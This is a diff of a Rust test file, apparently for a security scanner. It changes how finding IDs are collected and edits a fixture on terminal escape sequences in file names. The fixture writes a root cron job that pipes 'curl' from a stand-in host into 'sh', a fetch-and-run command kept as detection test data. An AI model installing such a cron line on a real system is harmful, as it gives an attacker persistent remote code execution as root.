@@ -340,7 +340,15 @@ fn ids(report: &Value) -> Vec<String> {
         .as_array()
         .unwrap()
         .iter()
-        .map(|f| f["id"].as_str().unwrap().to_owned())
+        .flat_map(|f| {
+            // a finding folded into another about the same subject is one of its reasons
+            let reasons = f["reasons"].as_array().cloned().unwrap_or_default();
+            std::iter::once(f["id"].as_str().unwrap().to_owned()).chain(
+                reasons
+                    .into_iter()
+                    .filter_map(|r| r["id"].as_str().map(str::to_owned)),
+            )
+        })
         .collect()
 }
 
@@ -501,7 +509,8 @@ fn terminal_escapes_in_names_and_lines() {
     );
     c.write(
         &format!("etc/cron.d/job{esc}"),
-        format!("* * * * * root curl http://x/{esc} | sh\n"),
+        // quoted: the escape's `;` would otherwise end the command, as in the shell
+        format!("* * * * * root curl 'http://x/{esc}' | sh\n"),
     );
     c.write(
         "var/log/auth.log",
